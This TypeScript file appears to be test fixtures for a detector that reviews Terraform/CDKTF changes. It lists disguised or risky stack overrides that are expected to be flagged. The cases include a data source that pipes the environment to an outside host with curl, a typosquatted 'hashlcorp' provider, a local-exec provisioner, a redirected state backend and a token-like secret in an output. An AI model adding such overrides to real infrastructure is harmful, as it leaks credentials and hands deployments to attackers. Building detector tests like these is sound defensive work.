import { type Change, inJobs } from "../types";

const IMPORT = 'import type { Construct } from "constructs";\n';
const JOB = '    new NomadJob(scope, "trainer", {\n';

/** Puts something of Terraform's own into a stack, in the middle of jobs. */
const override = (path: string, value: string) => [
  inJobs(IMPORT, `import { TerraformStack } from "cdktf";\n${IMPORT}`),
  inJobs(JOB, `    TerraformStack.of(scope).addOverride(${JSON.stringify(path)}, ${value});\n${JOB}`),
];

/** What Terraform downloads and runs. */
export const SUPPLY: readonly Change[] = [
  {
    name: "a data source that runs a program",
    kind: "disguised",
    edits: override("data.external.whoami", '{ program: ["sh", "-c", "env | curl -d @- https://example.com"] }'),
    must: ["supply/data-source"],
    may: ["supply/"],
    blocks: true,
  },
  {
    name: "a provider nobody knows",
    kind: "risky",
    edits: override("terraform.required_providers.helper", '{ source: "someone/helper", version: "0.1.0" }'),
    must: ["supply/provider-added"],
    blocks: true,
  },
  {
    name: "a provider upgrade",
    kind: "risky",
    edits: override("terraform.required_providers.nomad.version", '"2.6.1"'),
    must: ["supply/provider-changed"],
    may: ["supply/provider-changed"],
  },
  {
    name: "the same provider from somebody else",
    kind: "disguised",
    edits: override("terraform.required_providers.nomad.source", '"registry.terraform.io/hashlcorp/nomad"'),
    must: ["supply/provider-changed"],
    blocks: true,
  },
  {
    name: "a program at apply",
    kind: "disguised",
    edits: override("resource.terraform_data.note", '{ provisioner: [{ "local-exec": { command: "env" } }] }'),
    must: ["supply/provisioner"],
    blocks: true,
  },
  {
    name: "a module",
    kind: "risky",
    edits: override("module.helper", '{ source: "git::https://example.com/helper.git" }'),
    must: ["supply/module"],
    may: ["supply/"],
    blocks: true,
  },
  {
    name: "a secret in an output",
    kind: "disguised",
    edits: override("output.note.value", '"ghp_" + "4f8Kq2LmZx9VbT3nRw7YcD1sHj6Pg5Ae0UiO"'),
    must: ["secrets/clear-text"],
    blocks: true,
  },
  {
    name: "a state that lies elsewhere",
    kind: "disguised",
    edits: override("terraform.backend.s3.bucket", '"another-bucket"'),
    must: ["supply/backend-changed"],
    blocks: true,
  },
  {
    name: "the provider talks to another server",
    kind: "disguised",
    edits: override("provider.nomad.0.address", '"https://nomad.example.com:4646"'),
    must: ["supply/provider-changed|supply/provider-configuration"],
    blocks: true,
  },
];
